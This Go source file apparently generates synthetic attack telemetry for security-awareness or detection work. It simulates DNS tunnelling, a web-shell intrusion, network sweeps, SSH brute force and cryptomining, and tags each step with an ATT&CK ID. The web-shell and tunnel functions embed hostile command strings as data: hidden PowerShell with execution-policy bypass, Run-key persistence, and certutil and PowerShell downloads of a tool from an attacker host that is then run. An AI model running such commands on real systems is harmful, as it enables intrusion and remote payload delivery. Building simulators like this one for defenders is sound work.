package awareness

import "strconv"

// tunnelChain: a script keeps itself alive through a run key, takes its orders from
// DNS answers and carries data out in DNS questions.
func tunnelChain(c *chain) {
	s, h := c.s, c.victim()
	var script *process
	file := c.hideout(h, ".ps1")
	c.do("T1059.001", h, func(t int64) {
		script = s.run(t, h.base.explorer, psExe, `powershell.exe -ep bypass -w hidden -f `+file, "")
	})
	c.pause(20, 120)
	c.do("T1547.001", h, func(t int64) {
		s.setValue(t, script, `HKU\`+h.owner.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\`+pick(c.r, nameHeads), `powershell.exe -w hidden -f `+file)
	})
	c.wait(1, 8)
	// One zone serves both phases; only the rate and the length of names change.
	zone := s.w.sites.fresh(c.r).name
	kind := []string{"TXT", "NULL", "CNAME", "A"}[c.variant(4)]
	every := c.r.between(8, 110) * second
	if c.quiet {
		every = c.r.between(90, 240) * second
	}
	length := 24 + c.r.intn(20)
	until := c.t + c.r.wait(120, 260)
	c.keep("T1071.004", h, min(until, h.off), every, every/3, func(t int64) {
		s.ask(t, h, query{name: c.r.letters(lowerNum, length) + "." + zone, kind: kind, answers: []string{c.r.letters(base64ch, 60)}, asked: 90, answered: 180 + c.r.int64n(90)})
	})
	c.wait(15, 60)
	c.look(h, func() *process { return script }, "T1016", "T1087.002")
	c.wait(10, 50)
	gap := 400 * millisecond
	number := 300 + c.r.int64n(1300)
	if c.quiet {
		number, gap = number/3, 5*second
	}
	c.do("T1048.003", h, func(t int64) {
		for i := range number {
			s.ask(t+i*gap, h, query{name: c.r.letters(lowerNum, 58) + "." + c.r.letters(lowerNum, 52) + "." + zone, kind: kind, asked: 170, answered: 190})
		}
	})
}

// webShellChain: a public web server is broken into through an upload; the page that
// was left behind runs commands, fetches a tool and looks at the network around it.
func webShellChain(c *chain) {
	s, h := c.s, c.server(webServer)
	c.t = c.r.between(hour, 16*hour)
	from := s.outsider()
	page := pick(c.r, nameTails) + c.r.letters(lowerNum, 3) + ".aspx"
	folder := []string{`\uploads\`, `\aspnet_client\`, `\images\`, `\api\`}[c.variant(4)]
	url := "/" + folder[1:len(folder)-1] + "/" + page
	shot := func(t int64, method, uri string, status, sent, received int64) {
		s.inbound(t, from, h, request{site: site{name: "www." + s.w.style.domain}, method: method, uri: uri, status: status, sent: sent, received: received, agent: pick(c.r, []string{browserAgent, "python-requests/2.31"})})
	}
	c.do("T1190", h, func(t int64) {
		for i := range 6 + c.r.int64n(10) {
			shot(t+i*4*second, "POST", pick(c.r, []string{"/api/import", "/upload.aspx", "/portal/save"})+"?f="+c.r.letters(lowerNum, 5), pick(c.r, []int64{500, 403, 500}), c.r.between(800, 9_000), 1_200)
		}
		shot(t+70*second, "POST", "/upload.aspx?f="+page, 200, c.r.between(3_000, 30_000), 300)
	})
	// The page appears on disk seconds after the upload that succeeded.
	c.pause(71, 76)
	c.do("T1505.003", h, func(t int64) {
		s.write(t, h.base.w3wp, `C:\inetpub\wwwroot`+folder+page)
		for i := range 3 + c.r.int64n(9) {
			shot(t+(20+i*45)*second, "POST", url, 200, c.r.between(60, 400), c.r.heavy(1_500, 4))
		}
	})
	c.pause(15, 25)
	var cmd *process
	shell := []string{"cmd.exe", psExe}[c.r.intn(2)]
	c.do("T1059."+map[string]string{"cmd.exe": "003", psExe: "001"}[shell], h, func(t int64) {
		image := shell
		if image == "cmd.exe" {
			image = sys32 + image
		}
		cmd = s.run(t, h.base.w3wp, image, shell+` /c cd /d C:\inetpub\wwwroot`, "")
	})
	c.pause(3, 20)
	get := func() *process { return cmd }
	c.look(h, get, "T1033", "T1082", "T1016")
	c.wait(2, 15)
	tool := c.hideout(h, ".exe")
	home := s.w.sites.fresh(c.r)
	way := c.variant(3)
	var implant *process
	c.do("T1105", h, func(t int64) {
		p := s.run(t, cmd, sys32+"certutil.exe", `certutil.exe -urlcache -split -f http://`+home.name+`/`+strconv.Itoa(c.r.intn(99))+` `+tool, "")
		if way == 2 {
			p = s.run(t, cmd, psExe, `powershell.exe -c "iwr http://`+home.name+`/t -OutFile `+tool+`"`, "")
		}
		s.web(t+second, h, request{site: home, uri: "/t", received: c.r.between(200_000, 900_000), proc: p, agent: "Microsoft-CryptoAPI/10.0"})
		s.write(t+4*second, p, tool)
		implant = s.run(t+8*second, cmd, tool, tool, "")
	})
	c.wait(1, 6)
	c.beacon(h, func() *process { return implant }, home, c.t+c.r.wait(90, 200))
	// From here on the server looks at its neighbours.
	c.wait(5, 30)
	c.sweep(h)
}

// sweep tries a few ports on many neighbours (T1046).
func (c *chain) sweep(h *host) {
	s := c.s
	ports := [][]int{{445, 3389}, {22, 80, 443}, {445, 1433, 5985}}[c.variant(3)]
	count, gap := 12+c.r.intn(90), c.r.between(30, 9000)*millisecond
	if c.quiet {
		count, gap = 8+c.r.intn(12), c.r.between(20, 60)*second
	}
	c.do("T1046", h, func(t int64) {
		for i := range count {
			target := s.w.hosts[(h.id+i*3+1)%len(s.w.hosts)]
			for _, port := range ports {
				s.connect(t, flow{from: h.at(t), fromPort: h.nextPort(s.r), to: target.at(t), toPort: port, proto: "tcp", state: pick(c.r, []string{"S0", "REJ", "S0", "RSTO"}), duration: 3 * millisecond})
				t += gap
			}
		}
	})
}

// deviceChain: a camera or printer without an agent, visible on the wire only, scans,
// guesses its way into a Linux server and puts it to work for somebody's purse.
func deviceChain(c *chain) {
	s := c.s
	h := c.server(pick(c.r, []role{camera, printer}))
	c.t = c.r.between(2*hour, 15*hour)
	c.sweep(h)
	// The device has no agent and neither has its victim: the wire has to tell it all.
	c.wait(4, 30)
	target := c.server(linuxServer)
	tries, gap := 18+c.r.int64n(180), c.r.between(700, 20_000)*millisecond
	if c.quiet {
		tries, gap = 15+c.r.int64n(15), c.r.between(30, 60)*second
	}
	c.do("T1110.001", h, func(t int64) {
		for i := range tries {
			s.connect(t+i*gap, flow{from: h.at(t), fromPort: h.nextPort(s.r), to: target.first, toPort: 22, proto: "tcp", service: "ssh",
				duration: c.r.between(900, 2600) * millisecond, sent: c.r.between(1_400, 2_100), received: c.r.between(1_900, 2_500)})
		}
	})
	c.t += tries * gap
	c.pause(10, 120)
	c.do("T1021.004", target, func(t int64) {
		s.connect(t, flow{from: h.at(t), fromPort: h.nextPort(s.r), to: target.first, toPort: 22, proto: "tcp", service: "ssh",
			duration: c.r.wait(6, 25), sent: c.r.between(40_000, 200_000), received: c.r.between(60_000, 300_000)})
	})
	c.wait(2, 12)
	home := s.w.sites.fresh(c.r)
	home.tls = false
	c.do("T1105", target, func(t int64) {
		s.web(t, target, request{site: home, uri: "/" + c.r.letters(lowerNum, 6) + ".sh", agent: "curl/7.88.1", received: 6_000})
		s.web(t+8*second, target, request{site: home, uri: "/" + c.r.letters(lowerNum, 6), agent: "curl/7.88.1", received: c.r.between(2_000_000, 9_000_000), cached: true})
	})
	// Mining keeps a connection open for as long as the pool allows.
	c.wait(1, 6)
	pool := s.w.sites.fresh(c.r)
	port := []int{3333, 14444, 5555, 443}[c.variant(4)]
	c.keep("T1496", target, min(c.t+c.r.wait(120, 300), day), 20*minute, 4*minute, func(t int64) {
		s.resolve(t-20*millisecond, target, pool.name, pool.addr)
		s.connect(t, flow{from: target.first, fromPort: target.nextPort(s.r), to: pool.addr, toPort: port, proto: "tcp", duration: 19 * minute, sent: c.r.between(30_000, 60_000), received: c.r.between(60_000, 120_000)})
	})
}
